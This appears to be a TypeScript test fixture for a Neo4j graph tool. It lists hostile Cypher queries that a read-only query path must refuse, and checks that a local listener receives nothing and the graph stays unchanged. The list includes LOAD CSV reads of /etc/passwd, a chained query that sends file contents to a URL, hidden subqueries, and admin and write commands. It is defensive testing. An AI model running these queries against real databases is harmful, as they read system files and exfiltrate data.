import assert from 'node:assert/strict';
import { createServer, type Server } from 'node:http';
import { after, before } from 'node:test';
import type { Driver } from 'neo4j-driver';
import { testConfig, testDriver } from './neo4j';
import { GraphStore, type Neo4jConfig } from '../../src/store';
import { seedFixture } from '../../src/server/fixtures/seed';

/**
 * Queries a hostile page or user sends as "read-only" Cypher, each with the refusal it must get;
 * the viewer's API and `wutong query` are both tested on this one table. `url` is a local listener
 * that must never be called.
 */
export interface HostileQuery {
  label: string;
  query(url: string): string;
  refused: RegExp;
}

const WRITE = /refused a write.*wutong query --write is the explicit way to write/;

export const HOSTILE_QUERIES: readonly HostileQuery[] = [
  { label: 'LOAD CSV reads a local file', query: () => "LOAD CSV FROM 'file:///etc/passwd' AS r RETURN r LIMIT 3", refused: /refused LOAD CSV: it reads files and fetches URLs/ },
  { label: 'LOAD CSV fetches a URL', query: (url) => `LOAD CSV FROM '${url}/fetch' AS r RETURN r`, refused: /refused LOAD CSV/ },
  { label: 'a file sent to a listener (chained LOAD CSV)', query: (url) => `LOAD CSV FROM 'file:///etc/passwd' AS r LOAD CSV FROM '${url}/?d=' + r[0] AS s RETURN s`, refused: /refused LOAD CSV/ },
  { label: 'LOAD CSV hidden in an EXISTS subquery', query: (url) => `MATCH (e:Entity) WHERE EXISTS { LOAD CSV FROM '${url}/exists' AS r RETURN r } RETURN e`, refused: /refused LOAD CSV/ },
  { label: 'CALL dbms.listConfig()', query: () => 'CALL dbms.listConfig()', refused: /refused CALL dbms\.listConfig: procedures can read files, reach the network or administer the server/ },
  { label: 'CALL dbms.components() in a COUNT subquery', query: () => 'MATCH (e:Entity) WHERE COUNT { CALL dbms.components() YIELD name RETURN name } > 0 RETURN e', refused: /refused CALL dbms\.components/ },
  { label: 'a procedure that writes', query: () => "CALL db.createLabel('Intruder')", refused: /refused CALL db\.createLabel/ },
  { label: 'an allowed procedure on the system database', query: () => 'USE system CALL db.labels()', refused: /refused a query on the database system/ },
  { label: 'SHOW TRANSACTIONS', query: () => 'SHOW TRANSACTIONS', refused: /refused SHOW TRANSACTIONS: .* do not administer the server/ },
  { label: 'TERMINATE TRANSACTION', query: () => "TERMINATE TRANSACTION 'neo4j-transaction-1'", refused: /refused TERMINATE TRANSACTIONS/ },
  { label: 'SHOW USERS', query: () => 'SHOW USERS', refused: /refused an administration command/ },
  { label: 'SHOW SETTINGS', query: () => 'SHOW SETTINGS', refused: /refused SHOW SETTINGS/ },
  { label: 'ALTER CURRENT USER', query: () => "ALTER CURRENT USER SET PASSWORD FROM 'a' TO 'b'", refused: /refused an administration command/ },
  { label: 'CREATE', query: () => "CREATE (x:Intruder {name: 'x'}) RETURN x", refused: WRITE },
  { label: 'MERGE', query: () => "MERGE (x:Intruder {name: 'x'}) RETURN x", refused: WRITE },
  { label: 'SET on a stored entity', query: () => "MATCH (e:Entity) SET e.name = 'intruder'", refused: WRITE },
  { label: 'REMOVE a label', query: () => 'MATCH (e:Entity) REMOVE e:Entity', refused: WRITE },
  { label: 'DELETE', query: () => 'MATCH (e:Entity) DETACH DELETE e', refused: WRITE },
  { label: 'FOREACH', query: () => 'FOREACH (i IN [1] | CREATE (:Intruder))', refused: WRITE },
  { label: 'CALL { … } IN TRANSACTIONS', query: () => 'CALL { CREATE (:Intruder) } IN TRANSACTIONS', refused: WRITE },
  { label: 'CREATE INDEX', query: () => 'CREATE INDEX intruder_name FOR (n:Intruder) ON (n.name)', refused: WRITE },
  { label: 'DROP INDEX', query: () => 'DROP INDEX entity_name', refused: WRITE },
];

/** Reads a user may make, with a check on the rows they give (on the fixture graph). */
export interface AllowedRead {
  label: string;
  query: string;
  rows(rows: Record<string, unknown>[]): boolean;
}

export const ALLOWED_READS: readonly AllowedRead[] = [
  { label: 'MATCH … RETURN', query: "MATCH (e:Entity {id: 'e-czjkq'}) RETURN e.name AS name", rows: (rows) => rows[0]?.name === '郴州经开区' },
  { label: 'db.labels()', query: 'CALL db.labels() YIELD label RETURN label', rows: (rows) => rows.some((r) => r.label === 'Entity') },
  { label: 'the fulltext index', query: "CALL db.index.fulltext.queryNodes('entityNames', '华宇') YIELD node RETURN node.id AS id", rows: (rows) => rows.some((r) => r.id === 'e-huayu') },
  { label: 'a path', query: "MATCH p = shortestPath((a:Entity {id: 'e-lijianguo'})-[*..4]-(b:Entity {id: 'e-huayu'})) RETURN length(p) AS hops", rows: (rows) => typeof rows[0]?.hops === 'number' },
  { label: "Neo4j's own namespaced function", query: "RETURN date.truncate('month', date('2024-11-20')) AS month", rows: (rows) => rows[0]?.month === '2024-11-01' },
  { label: 'db.schema.visualization()', query: 'CALL db.schema.visualization() YIELD nodes RETURN size(nodes) AS labels', rows: (rows) => Number(rows[0]?.labels) > 0 },
  { label: 'SHOW INDEXES', query: "SHOW INDEXES YIELD name WHERE name = 'entityNames' RETURN name", rows: (rows) => rows.length === 1 },
];

/** Anything a refused query could have changed: entities and their names, intruders, indexes. */
async function graphState(driver: Driver, database: string | undefined): Promise<unknown> {
  const graph = await driver.executeQuery(
    'MATCH (e:Entity) WITH collect(e.name) AS names OPTIONAL MATCH (x:Intruder) RETURN names, count(x) AS intruders', {}, { database },
  );
  const indexes = await driver.executeQuery('SHOW INDEXES YIELD name RETURN name ORDER BY name', {}, { database });
  return {
    names: [...(graph.records[0]!.get('names') as string[])].sort(),
    intruders: Number(graph.records[0]!.get('intruders')),
    indexes: indexes.records.map((r) => r.get('name') as string),
  };
}

/** The fixture graph with the store's schema (its fulltext index included), ready to query. */
export async function seedReadableGraph(config: Neo4jConfig, driver: Driver): Promise<void> {
  const store = new GraphStore(config);
  try {
    await store.applySchema();
  } finally {
    await store.close();
  }
  await seedFixture(driver, config.database);
  await driver.executeQuery('CALL db.awaitIndexes(60)', {}, { database: config.database });
}

interface Listener {
  url: string;
  requests: string[];
  close(): Promise<void>;
}

/** An HTTP listener that counts what reaches it: a fetch from Cypher would land here. */
export async function startListener(): Promise<Listener> {
  const requests: string[] = [];
  const server: Server = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end('a,b\n1,2\n');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', () => resolve()));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return { url: `http://127.0.0.1:${port}`, requests, close: () => new Promise((resolve) => server.close(() => resolve())) };
}

export interface HostileQueryFixture {
  config: Neo4jConfig;
  driver: Driver;
  /** Up from the file's first test to its last. */
  readonly listener: Listener;
}

/** What each test file of hostile queries needs: the fixture graph seeded and a listener up before its tests, both closed after. */
export function hostileQueryFixture(): HostileQueryFixture {
  const config = testConfig();
  const driver = testDriver();
  let listener: Listener | undefined;
  before(async () => {
    await seedReadableGraph(config, driver);
    listener = await startListener();
  });
  after(async () => {
    await listener?.close();
    await driver.close();
  });
  return {
    config,
    driver,
    get listener(): Listener {
      if (listener === undefined) throw new Error('hostile-queries: the listener starts before the first test');
      return listener;
    },
  };
}

/** Sends every hostile query through `refused` (which asserts its refusal); then nothing changed in the graph and nothing reached the listener. */
export async function assertEveryHostileQueryRefused(fixture: HostileQueryFixture, refused: (c: HostileQuery, url: string) => Promise<void>): Promise<void> {
  const { driver, config, listener } = fixture;
  const before = await graphState(driver, config.database);
  for (const c of HOSTILE_QUERIES) await refused(c, listener.url);
  assert.deepEqual(listener.requests, [], 'the listener was never called');
  assert.deepEqual(await graphState(driver, config.database), before, 'the graph and its indexes are as they were');
}
